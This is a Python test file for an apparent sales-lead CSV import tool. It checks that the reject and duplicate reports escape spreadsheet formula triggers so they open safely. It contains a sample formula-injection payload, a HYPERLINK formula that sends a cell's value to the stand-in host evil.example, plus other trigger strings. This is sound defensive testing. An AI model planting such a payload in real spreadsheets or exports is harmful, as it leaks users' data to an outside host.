"""An import says what it read and what it could not: the reports open safely in a
spreadsheet, and the summary names the rows behind its counts. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
from pathlib import Path

from sqlalchemy import select
from sqlalchemy.orm import selectinload

from teleprospect.core.csv_export import FORMULA_TRIGGERS
from teleprospect.core.domain import DuplicatePolicy
from teleprospect.services.imports.leads import LeadImportRequest, import_leads
from teleprospect.store.database import Database
from teleprospect.store.models import Lead

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"open")'


def request(path: Path, tmp_path: Path, **overrides: object) -> LeadImportRequest:
    return LeadImportRequest(path=path, login="mia", report_dir=tmp_path / "reports", **overrides)  # type: ignore[arg-type]


def leads(db: Database) -> list[Lead]:
    with db.read() as session:
        return list(
            session.scalars(select(Lead).options(selectinload(Lead.phones)).order_by(Lead.id))
        )


def read_report(path: Path | None) -> list[list[str]]:
    assert path is not None
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_reject_and_duplicate_reports_never_hold_a_cell_a_spreadsheet_would_run(
    db: Database, tmp_path: Path
) -> None:
    with db.write() as session:
        session.add(
            Lead(first_name="+SUM(1+1)", last_name="-1+2", email="anna@mueller.de", match_key="x")
        )
    path = tmp_path / "fair.csv"
    path.write_text(
        "First Name,Last Name,Email,Phone,@Booth\n"
        f',,,,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "Anna,Schmidt,anna@mueller.de,+49 30 901820,@x\n",
        encoding="utf-8",
    )
    summary = import_leads(db, request(path, tmp_path, on_duplicate=DuplicatePolicy.SKIP))
    assert (summary.rejected, summary.duplicates) == (1, 1)
    rejected = read_report(summary.reject_file)
    duplicates = read_report(summary.duplicates_file)
    for row in rejected + duplicates:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    assert rejected[0][-1] == "'@Booth" and rejected[1][-1] == "'" + FORMULA
    assert rejected[1][0] == "2", "the row number is still a plain number"
    assert duplicates[1][2] == "'+SUM(1+1) -1+2"
